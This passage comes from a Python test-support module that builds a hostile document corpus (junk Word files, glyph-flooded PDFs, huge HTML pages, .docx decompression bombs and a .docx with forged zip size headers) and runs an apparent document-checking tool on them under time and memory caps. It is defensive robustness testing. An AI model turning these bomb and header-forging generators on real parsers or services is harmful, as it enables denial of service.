    """The signature of an old Word file followed by random bytes: LibreOffice chews on it for minutes."""
    import random

    rnd = random.Random(19)
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rnd.randbytes(size))
    return path


def report_docx(path: Path) -> Path:
    """A small real .docx (python-docx) with the report's headings and a sentence under each."""
    import docx

    d = docx.Document()
    d.core_properties.title = "某局2023年政府信息公开工作年度报告"
    for h in REPORT_HEADINGS:
        d.add_paragraph(h)
        d.add_paragraph("本年度依法依规做好政府信息公开工作。")
    d.save(str(path))
    return path


def docx_with_big_part(src: Path, dst: Path, part: str, size: int, piece: bytes = b" " * 1024) -> Path:
    """``src`` with ``part`` (replaced, or added as an image the document refers to) streamed as ``size`` bytes of
    ``piece``: compresses to a thousandth (an XML part of blanks, an image of zeros)."""
    def pieces() -> Iterator[bytes]:
        yield from _repeat(piece, size)

    with zipfile.ZipFile(src) as zin:
        names = zin.namelist()
    if part in names:
        return rewrite(src, dst, streams={part: pieces}, level=1)
    target = part.removeprefix("word/")
    ext = part.rsplit(".", 1)[-1]

    def rel(data: bytes) -> bytes:  # the document refers to it: python-docx loads every part it can reach
        return data.replace(b"</Relationships>", b'<Relationship Id="rIdBig" Type="http://schemas.openxmlformats.org/'
                            b'officeDocument/2006/relationships/image" Target="' + target.encode() + b'"/>'
                            b"</Relationships>")

    def types(data: bytes) -> bytes:
        return data.replace(b"</Types>", b'<Default Extension="' + ext.encode() + b'" ContentType="image/' +
                            ext.encode() + b'"/></Types>')

    rewrite(src, dst, {"word/_rels/document.xml.rels": rel, "[Content_Types].xml": types}, level=1)
    info = zipfile.ZipInfo(part, (2024, 1, 20, 10, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as zf, \
            zf.open(info, "w", force_zip64=True) as fh:
        for p in pieces():
            fh.write(p)
    return dst


def docx_lying_size(src: Path, dst: Path, part: str = "word/styles.xml", size: int = 256 * MB) -> Path:
    """``src`` with ``part`` holding ``size`` bytes of blanks while the archive's directory (and the part's local
    header) declare it 1 KB: whoever trusts the declared size reads far more than it allows."""
    import struct

    docx_with_big_part(src, dst, part, size)
    raw = bytearray(dst.read_bytes())
    name = part.encode()
    # every header naming the part: local header (PK 3 4) and central directory (PK 1 2); zip64 extras hold sizes
    for sig, name_at, size_at in ((b"PK\x03\x04", 26, 22), (b"PK\x01\x02", 28, 24)):
        i = raw.find(sig)
        while i >= 0:
            n_len = struct.unpack_from("<H", raw, i + name_at)[0]
            head = 30 if sig == b"PK\x03\x04" else 46
            if raw[i + head:i + head + n_len] == name:
                extra_len = struct.unpack_from("<H", raw, i + name_at + 2)[0]
                extra_at = i + head + n_len
                if struct.unpack_from("<I", raw, i + size_at)[0] == 0xFFFFFFFF:  # the sizes are in the zip64 extra
                    j = extra_at
                    while j < extra_at + extra_len:
                        tag, ln = struct.unpack_from("<HH", raw, j)
                        if tag == 1:
                            struct.pack_into("<Q", raw, j + 4, 1024)
                        j += 4 + ln
                else:
                    struct.pack_into("<I", raw, i + size_at, 1024)
            i = raw.find(sig, i + 4)
    dst.write_bytes(bytes(raw))
    return dst


def report_corpus(folder: Path) -> list[Case]:
    """The hostile published reports of issue 19 (items 15-17) in ``folder``: each must be read in 10 s and
    500 MB or refused with a Chinese message; check may exit 1 (read, findings) or 2 (refused)."""
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    read_or_refused = frozenset({1, 2})
    refused = frozenset({2})
    # 200,000 glyphs on one page: the per-run text extraction took minutes (quadratic)
    cases.append(Case("pdf-glyphs", many_glyph_pdf(folder / "一页二十万字.pdf", 20_000), refused))
    # 800,000 glyphs over 4 pages: beyond what a report holds, refused before it is read
    cases.append(Case("pdf-glyph-flood", many_glyph_pdf(folder / "八十万字.pdf", 20_000, pages=4), refused))
    # 15,000 lines ending in a number: each was compared with every label of table 三 (0.45 ms a line)
    cases.append(Case("page-numbers", numbered_lines_page(folder / "一万五千行.html", 15_000), read_or_refused))
    # 50 MB of such lines (700,000): refused, not read for minutes
    cases.append(Case("page-50mb", numbered_lines_page(folder / "五十兆网页.html", 700_000), refused))
    cases.append(Case("doc-junk", junk_doc(folder / "乱码.doc"), refused))
    base = report_docx(folder / "正常.docx")
    cases.append(Case("docx-ok", base, read_or_refused))
    cases.append(Case("docx-styles-1gb", docx_with_big_part(base, folder / "样式1GB.docx", "word/styles.xml", GB),
                      refused))
    cases.append(Case("docx-image-1gb", docx_with_big_part(base, folder / "图片1GB.docx", "word/media/image1.png", GB,
                                                           b"\0" * 1024), refused))
    cases.append(Case("docx-lying-size", docx_lying_size(base, folder / "声明大小不符.docx"), refused))
    return cases


# ---- running a command measured ----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Run:
    args: tuple[str, ...]
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float  # the largest resident set of the command or any process it waited for


#: the address space a measured command may take at all: far above the 500 MB it must stay under, low enough that a
#: command that does not keep its limits fails its test instead of taking the machine's memory
HARNESS_CAP = 4 * GB


def _cap_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (HARNESS_CAP, HARNESS_CAP))


def run_measured(args: Iterable[str | os.PathLike[str]], *, timeout: float = 120, cwd: Path | None = None) -> Run:
    """``python -m xl_addin ARGS`` as a subprocess (its own process group, killed after ``timeout``): exit code,
    output, wall time and peak memory (``os.wait4``: the command and every process it waited for)."""
    cmd = [sys.executable, "-m", "xl_addin", *map(str, args)]
    t0 = time.perf_counter()
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                            cwd=cwd, start_new_session=True, preexec_fn=_cap_memory)
    out: dict[str, bytes] = {}

    def drain(name: str, stream: object) -> None:
        out[name] = stream.read()  # type: ignore[attr-defined]

    readers = [threading.Thread(target=drain, args=(n, s)) for n, s in (("out", proc.stdout), ("err", proc.stderr))]
    for t in readers:
        t.start()
    timer = threading.Timer(timeout, lambda: os.killpg(proc.pid, signal.SIGKILL))
    timer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        timer.cancel()
    seconds = time.perf_counter() - t0
    for t in readers:
        t.join()
    for stream in (proc.stdout, proc.stderr):
        if stream is not None:
            stream.close()
    proc.returncode = os.waitstatus_to_exitcode(status)
    with contextlib.suppress(ProcessLookupError):  # whatever the command left running in its group
        os.killpg(proc.pid, signal.SIGKILL)
    return Run(tuple(map(str, args)), proc.returncode, out["out"].decode("utf-8", "replace"),
               out["err"].decode("utf-8", "replace"), seconds, usage.ru_maxrss / 1024)


def snapshot(folder: Path) -> dict[str, tuple[int, float, int]]:
    """Every entry under ``folder`` (path -> kind, mtime, size), not following links, without opening any file."""
    out = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            p = os.path.join(root, name)
            st = os.lstat(p)
            out[p] = (stat.S_IFMT(st.st_mode), st.st_mtime, st.st_size)
    return out


if __name__ == "__main__":  # pragma: no cover - by hand
    from xl_addin import api

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    target.mkdir(parents=True, exist_ok=True)
    tpl = api.build_template(target / "模板.xlsx")
    smp = api.put(tpl, api.sample_values(), target / "样例.xlsx")
    for c in hostile_corpus(smp, target / "hostile"):
        print(c.name, c.path)
